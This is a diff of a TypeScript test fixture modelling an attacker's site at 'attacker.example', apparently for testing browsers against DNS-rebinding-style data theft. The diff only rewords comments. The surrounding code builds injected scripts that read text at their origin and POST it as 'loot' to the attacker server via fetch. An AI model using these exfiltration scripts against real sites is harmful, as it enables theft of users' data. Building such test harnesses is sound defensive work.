@@ -1,4 +1,4 @@
-/** The site of an attacker: pages that the victim's browser shows, and a place to which they send what they got. */
+/** The site of an attacker: pages for the victim's browser, and a server to which they send their loot. */
 import { EventEmitter, once } from 'node:events';
 import { text } from 'node:stream/consumers';
 import { SECOND } from '../../src/util/clock.ts';
@@ -6,17 +6,17 @@ import { HttpServer } from './http-server.ts';
 
 /** A name that leads to 127.0.0.1 in the victim's browser (chromium.ts). */
 export const ATTACKER = 'attacker.example';
-/** On all that the attacker's own servers answer: a page sees by it whether its name leads elsewhere by now. */
+/** A header of all answers of the attacker's servers: without it a page knows that its name leads elsewhere now. */
 const OWN_HEADER = 'x-attacker';
-/** Characters of what was robbed that a failed test shows. */
+/** Characters of the loot that a failed test shows. */
 const MAX_SHOWN = 80;
 const SENT_WITHIN = 60 * SECOND;
 
-/** What a page sent home. */
+/** A page's report to the attacker. */
 export interface Loot {
   readonly what: string;
   readonly got: string;
-  /** Which script. */
+  /** Name of the script. */
   readonly by?: string;
 }
 
@@ -24,7 +24,7 @@ export class AttackerSite implements AsyncDisposable {
   readonly loot: Loot[] = [];
   /** HTML by path. */
   readonly pages: Map<string, string> = new Map();
-  /** Where a path leads to. */
+  /** Redirects by path. */
   readonly redirects: Map<string, string> = new Map();
   readonly #sent = new EventEmitter();
   readonly #server: HttpServer;
@@ -53,19 +53,19 @@ export class AttackerSite implements AsyncDisposable {
     return `http://${ATTACKER}:${new URL(this.#server.url).port}`;
   }
 
-  /** What {@link robber} got, in short. */
+  /** The loot of {@link robber}, in short. */
   get robbed(): readonly string[] {
     const robbed = this.loot.filter(({ by }) => by === 'robber');
     return robbed.map(({ what, got }) => `${what}: ${got.slice(0, MAX_SHOWN)}`);
   }
 
-  /** Waits until a page sends something of this name. */
+  /** Waits until a page sends a report of this name. */
   async sent(what: string): Promise<void> {
     const signal = AbortSignal.timeout(SENT_WITHIN);
     while (!this.loot.some((each) => each.what === what)) await once(this.#sent, 'loot', { signal });
   }
 
-  /** A script that sends home what it reads at its own origin, before its document counts as loaded. */
+  /** A script that sends the text that it reads at its own origin, before its document counts as loaded. */
   robber(targets: readonly string[]): string {
     return `<script>
       document.title = ['script', 'of', location.origin, 'ran'].join(' ');
@@ -84,7 +84,7 @@ export class AttackerSite implements AsyncDisposable {
     </script>`;
   }
 
-  /** A server of the attacker's where soon another one will be: its page waits for that, and reads it then. */
+  /** A server of the attacker's at a port that another server takes soon: its page waits for that, and reads it then. */
   async lieInWait(port: number, targets: readonly string[]): Promise<HttpServer> {
     const page = `<script type="module">
       const send = (what, got) => fetch('${this.origin}/', { method: 'POST', body: JSON.stringify({ what, got }) });
